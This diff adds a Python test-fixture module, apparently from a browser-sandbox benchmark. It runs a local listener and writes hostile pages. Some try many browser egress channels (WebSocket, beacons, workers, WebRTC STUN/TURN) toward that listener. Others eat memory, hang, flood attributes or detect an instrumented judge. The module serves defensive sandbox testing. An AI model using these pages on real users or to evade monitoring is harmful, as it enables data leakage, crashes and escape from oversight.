@@ -1,0 +1,274 @@
+"""A corpus of hostile pages and a real listener they try to reach.
+
+:class:`Listener` is a TCP listener and a UDP socket on all addresses of this machine (so loopback
+and the machine's other addresses), in a thread that records every connection or datagram and
+stops by itself. :func:`hostile_pages` writes pages that try every way out we know of at that
+listener (main thread, iframes, dedicated/shared/service workers, WebSocket, WebTransport,
+EventSource, beacons while the tab closes, preconnect/prefetch, WebRTC STUN and TURN), plus pages
+that eat memory, spin at load or after a click, never settle, and probe for the judge.
+"""
+
+from __future__ import annotations
+
+import selectors
+import socket
+import threading
+import time
+from pathlib import Path
+from types import TracebackType
+
+
+def machine_address() -> str | None:
+    """A non-loopback IPv4 address of this machine, if it has one (no packet is sent)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+        try:
+            probe.connect(("192.0.2.1", 9))
+        except OSError:
+            return None
+        address = str(probe.getsockname()[0])
+    return None if address.startswith("127.") or address == "0.0.0.0" else address
+
+
+class Listener:
+    """TCP + UDP listener on 0.0.0.0 that records every attempt; stops after ``lifetime`` seconds."""
+
+    def __init__(self, lifetime: float = 240.0) -> None:
+        self.tcp = socket.create_server(("0.0.0.0", 0))
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("0.0.0.0", 0))
+        self.tcp_port = int(self.tcp.getsockname()[1])
+        self.udp_port = int(self.udp.getsockname()[1])
+        self.hits: list[str] = []
+        self._deadline = time.monotonic() + lifetime
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, name="hostile-listener", daemon=True)
+
+    def _run(self) -> None:
+        sel = selectors.DefaultSelector()
+        for sock in (self.tcp, self.udp):
+            sock.setblocking(False)
+            sel.register(sock, selectors.EVENT_READ)
+        with sel:
+            while not self._stop.is_set() and time.monotonic() < self._deadline:
+                for key, _ in sel.select(timeout=0.1):
+                    if key.fileobj is self.tcp:
+                        conn, peer = self.tcp.accept()
+                        conn.settimeout(0.5)
+                        try:
+                            first = conn.recv(200)
+                        except OSError:
+                            first = b""
+                        conn.close()
+                        self.hits.append(f"tcp from {peer[0]}: {first[:80]!r}")
+                    else:
+                        data, peer = self.udp.recvfrom(2048)
+                        self.hits.append(f"udp from {peer[0]}: {len(data)} bytes")
+        self.tcp.close()
+        self.udp.close()
+
+    def __enter__(self) -> Listener:
+        self._thread.start()
+        return self
+
+    def __exit__(
+        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
+    ) -> None:
+        self._stop.set()
+        self._thread.join(timeout=5)
+
+
+_REPORT = """<p id="out">pending</p><script>
+const out = (t) => { document.getElementById('out').textContent = t; };
+</script>"""
+
+_WORKER = """
+const tryit = (f) => { try { f(); } catch (e) {} };
+fetch('http://HOST:TCP/worker-fetch', { mode: 'no-cors' }).catch(() => {});
+tryit(() => importScripts('http://HOST:TCP/worker-import.js'));
+tryit(() => new WebSocket('ws://HOST:TCP/worker-ws'));
+tryit(() => new EventSource('http://HOST:TCP/worker-sse'));
+tryit(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://HOST:TCP/worker-xhr'); x.send(); });
+self.onconnect = (e) => e.ports[0].postMessage('hi');
+self.addEventListener('install', () => fetch('http://HOST:TCP/sw-install').catch(() => {}));
+"""
+
+_EXFIL = (
+    """<!doctype html><html><head>
+<link rel="preconnect" href="http://HOST:TCP">
+<link rel="dns-prefetch" href="http://HOST:TCP">
+<link rel="prefetch" href="http://HOST:TCP/prefetch">
+<link rel="preload" as="image" href="http://HOST:TCP/preload.png">
+</head><body>"""
+    + _REPORT
+    + """<script>
+const tryit = (f) => { try { f(); } catch (e) {} };
+const beacon = () => { tryit(() => navigator.sendBeacon('http://HOST:TCP/beacon', 'bye'));
+  tryit(() => fetch('http://HOST:TCP/keepalive',
+    { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })); };
+addEventListener('pagehide', beacon);
+addEventListener('beforeunload', beacon);
+addEventListener('visibilitychange', beacon);
+tryit(() => new WebSocket('ws://HOST:TCP/ws'));
+tryit(() => new EventSource('http://HOST:TCP/sse'));
+tryit(() => new WebTransport('https://HOST:UDP/wt'));
+fetch('http://HOST:TCP/fetch', { mode: 'no-cors' }).catch(() => {});
+const img = new Image(); img.src = 'http://HOST:TCP/img.png';
+const frame = document.createElement('iframe'); frame.src = 'http://HOST:TCP/frame';
+document.body.appendChild(frame);
+const blank = document.createElement('iframe'); document.body.appendChild(blank);
+tryit(() => new Worker('worker.js'));
+tryit(() => new Worker(URL.createObjectURL(new Blob([document.getElementById('w').textContent]))));
+tryit(() => new SharedWorker('worker.js'));
+tryit(() => navigator.serviceWorker.register('worker.js').catch(() => {}));
+const RTC = window.RTCPeerConnection || (blank.contentWindow && blank.contentWindow.RTCPeerConnection);
+tryit(() => {
+  const pc = new RTC({ iceServers: [{ urls: 'stun:HOST:UDP' }, { urls: 'stun:OTHER:UDP' },
+    { urls: 'turn:HOST:TCP?transport=tcp', username: 'u', credential: 'c' }] });
+  pc.createDataChannel('x');
+  pc.createOffer().then((o) => pc.setLocalDescription(o));
+});
+out('sent');
+</script><script type="text/plain" id="w">"""
+    + _WORKER
+    + """</script></body></html>"""
+)
+
+_MEMORY = """<!doctype html><html><body><p id="out">eating</p><script>
+const keep = [];
+function eat() {
+  for (let i = 0; i < 4; i++) { const b = new Uint8Array(64 * 1024 * 1024); b.fill(7); keep.push(b); }
+  document.getElementById('out').textContent = 'held ' + keep.length * 64 + ' MiB';
+  setTimeout(eat, 0);
+}
+eat();
+</script></body></html>"""
+
+_HANG_LOAD = "<!doctype html><html><body>spin<script>while (true) {}</script></body></html>"
+
+_HANG_CLICK = """<!doctype html><html><body>
+<button style="width:100vw;height:100vh" onclick="while (true) {}">spin</button>
+<script>document.addEventListener('click', () => { while (true) {} }, true);</script></body></html>"""
+
+_NEVER_SETTLES = """<!doctype html><html><body><p id="n" style="font:40px monospace">0</p><script>
+let n = 0; const tick = () => { document.getElementById('n').textContent = String(n++);
+  document.body.style.background = 'hsl(' + (n % 360) + ',60%,70%)'; requestAnimationFrame(tick); };
+tick();
+fetch('/never-ending-' + Math.random()).catch(() => {});
+</script></body></html>"""
+
+DETECT = (
+    """<!doctype html><html><body>"""
+    + _REPORT
+    + """
+<button id="real" onclick="out('real clicked')">real</button><script>
+const seen = [];
+const look = () => {
+  if ('__iwr__' in window || window.__iwr__ !== undefined) seen.push('__iwr__');
+  if (Object.getOwnPropertyNames(window).some((k) => /iwr|judge/i.test(k))) seen.push('global');
+  const native = (f, name) =>
+    Function.prototype.toString.call(f) === 'function ' + name + '() { [native code] }';
+  if (!native(Math.random, 'random')) seen.push('Math.random source');
+  if (!native(Date.now, 'now')) seen.push('Date.now source');
+  if (!native(Date, 'Date')) seen.push('Date source');
+  if (!native(Function.prototype.toString, 'toString')) seen.push('toString source');
+  if (Math.random.prototype !== undefined || Math.random.length !== 0) seen.push('Math.random shape');
+  if (Date.now.name !== 'now' || Date.prototype.constructor !== Date) seen.push('Date shape');
+  if (Math.abs(performance.timeOrigin + performance.now() - Date.now()) > 1000) seen.push('clock skew');
+  if (document.querySelector('style')) seen.push('style element');
+  if (navigator.webdriver) seen.push('webdriver');
+  return seen;
+};
+look();
+window.__iwr__ = { els: [document.body], gen: 99, scroller: document.body };
+const decoy = document.createElement('button');
+decoy.textContent = 'decoy'; decoy.onclick = () => out('decoy clicked');
+document.body.appendChild(decoy);
+setTimeout(() => { out(seen.length ? 'detected: ' + seen.join(', ') : 'clean'); }, 50);
+</script></body></html>"""
+)
+
+FLOOD = (
+    """<!doctype html><html><head><title>"""
+    + "T" * 100000
+    + """</title></head><body>
+<a href="/"""
+    + "h" * 100000
+    + """" aria-label=\""""
+    + "a" * 100000
+    + """\">link</a>
+<input placeholder=\""""
+    + "p" * 100000
+    + """\" role=\""""
+    + "r" * 100000
+    + """\">
+<label for="x">"""
+    + "l" * 100000
+    + """</label><input id="x">
+</body></html>"""
+)
+
+ORDINARY = """<!doctype html><html><body style="font:24px sans-serif">
+<p id="c">count 0</p><button onclick="n++; document.getElementById('c').textContent = 'count ' + n">+</button>
+<script>let n = 0;</script></body></html>"""
+
+
+def _fill(text: str, listener: Listener, other: str) -> str:
+    return (
+        text.replace("HOST", "127.0.0.1")
+        .replace("OTHER", other)
+        .replace("TCP", str(listener.tcp_port))
+        .replace("UDP", str(listener.udp_port))
+    )
+
+
+def hostile_pages(root: Path, listener: Listener) -> dict[str, Path]:
+    """Write every hostile page under ``root/<name>/`` and return name -> page folder.
+
+    ``exfil-other`` aims the same channels at the machine's non-loopback address.
+    """
+    other = machine_address() or "127.0.0.1"
+    pages = {
+        "exfil": {"index.html": _EXFIL, "worker.js": _WORKER},
+        "exfil-other": {
+            "index.html": _EXFIL.replace("HOST", other),
+            "worker.js": _WORKER.replace("HOST", other),
+        },
+        "memory": {"index.html": _MEMORY},
+        "hang-load": {"index.html": _HANG_LOAD},
+        "hang-click": {"index.html": _HANG_CLICK},
+        "never-settles": {"index.html": _NEVER_SETTLES},
+        "detect": {"index.html": DETECT},
+        "flood": {"index.html": FLOOD},
+    }
+    out: dict[str, Path] = {}
+    for name, files in pages.items():
+        folder = root / name
+        folder.mkdir(parents=True, exist_ok=True)
+        for file, text in files.items():
+            (folder / file).write_text(_fill(text, listener, other), encoding="utf-8")
+        out[name] = folder
+    return out
+
+
+def chromium_leftovers(roots: list[int], folders: tuple[str, ...] = ()) -> list[str]:
+    """Chromium processes still alive below the given PIDs, or any process naming one of ``folders``
+    (the browsers' temporary folders: a crash handler that left the process tree names them)."""
+    from iwr_bench.tools.process import descendants
+
+    alive: list[str] = []
+    for pid in [*roots, *(d for r in roots for d in descendants(r))]:
+        try:
+            stat = Path(f"/proc/{pid}/stat").read_text()
+        except OSError:
+            continue
+        if stat.rsplit(")", 1)[1].split()[0] != "Z":
+            alive.append(f"{pid}: {stat.split(')')[0]})")
+    for proc in Path("/proc").iterdir():
+        if proc.name.isdigit():
+            try:
+                cmd = (proc / "cmdline").read_bytes()
+            except OSError:
+                continue
+            if any(folder.encode() in cmd for folder in folders):
+                alive.append(f"{proc.name}: {cmd[:60]!r}")
+    return alive
